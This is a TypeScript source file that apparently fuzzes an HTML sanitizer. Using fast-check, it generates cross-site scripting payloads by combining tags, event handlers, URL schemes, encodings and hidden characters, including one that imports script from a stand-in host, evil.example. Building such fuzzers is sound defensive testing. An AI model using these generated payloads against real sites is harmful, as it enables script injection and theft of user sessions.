/** Thousands of ways more, put together of what such ways are made of. */
import fc from 'fast-check';

const SIGNS = [
  '',
  '',
  '',
  ' ',
  '\t',
  '\n',
  '\r',
  '\f',
  '\0',
  '\u0001',
  '/',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\ud800',
];
const NAMES =
  'script img svg a iframe object embed form input style link base meta body video math details x-y template slot'.split(
    ' ',
  );
const HANDLERS = 'onerror onload onclick onfocus ontoggle onbegin onpointerenter onanimationend'.split(' ');
const ADDRESSES = 'href src srcset action formaction data xlink:href poster srcdoc background style is'.split(
  ' ',
);
const SCHEMES = ['javascript', 'data', 'vbscript', 'https', 'http', 'mailto', 'file', 'blob', ''];
const REST = [
  'alert(1)',
  'text/html,<script>alert(1)</script>',
  '//evil.example/x',
  '/\\evil.example/x',
  '//%0aalert(1)',
  'url(https://evil.example/x)',
];
const CODE = [
  'alert(1)',
  'alert`1`',
  'top["al"+"ert"](1)',
  "import('https://evil.example/x.js')",
  '&#97;lert(1)',
];
const ENDS = [
  '>',
  '/>',
  '',
  '>x</script>',
  '//',
  '-->',
  ']]>',
  '">',
  "'>",
  '\n>',
  '</title></style></textarea>',
];

const capitals = (text: string): fc.Arbitrary<string> =>
  fc.array(fc.boolean(), { minLength: text.length, maxLength: text.length }).map((isUp) =>
    Array.from(text)
      .map((sign, index) => (isUp[index] ? sign.toUpperCase() : sign))
      .join(''),
  );

const asEntity = (sign: string): string => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`;

/** A word with signs in it that some reader or other passes over, or written in another way. */
const disguised = (words: readonly string[]): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(...words).chain(capitals), fc.constantFrom(...SIGNS), fc.nat(20), fc.nat(5))
    .map(([word, sign, at, how]) => {
      if (how === 0) return Array.from(word).map(asEntity).join('');
      if (how === 1) return encodeURIComponent(word);
      const cut = at % (word.length + 1);
      return word.slice(0, cut) + sign + word.slice(cut);
    });

const address = fc
  .tuple(
    disguised(SCHEMES),
    fc.constantFrom(':', ':', '&colon;', '&#58;', '%3a', ''),
    fc.constantFrom(...REST),
  )
  .map((parts) => parts.join(''));

const attribute = fc
  .tuple(
    fc.constantFrom(' ', '\n', '/', '\t', ''),
    fc.oneof(disguised(HANDLERS), disguised(ADDRESSES)),
    fc.constantFrom('=', ' = ', '=\n'),
    fc.constantFrom('"', "'", '`', ''),
    fc.oneof(fc.constantFrom(...CODE), address),
  )
  .map(([gap, name, is, quote, value]) => gap + name + is + quote + value + quote);

const element = fc
  .tuple(
    fc.constantFrom('<', '<', '<', '</', '<!--<', '"><', "'><", '&lt;', '\\x3c', '＜', '<!', '<?'),
    disguised(NAMES),
    fc.array(attribute, { maxLength: 3 }),
    fc.constantFrom(...ENDS),
  )
  .map(([opening, name, attributes, end]) => opening + name + attributes.join('') + end);

/** The same at each call. */
export const generatedVectors = (count: number): readonly string[] =>
  fc.sample(fc.oneof({ weight: 2, arbitrary: element }, { weight: 1, arbitrary: address }), {
    numRuns: count,
    seed: 20261126,
  });
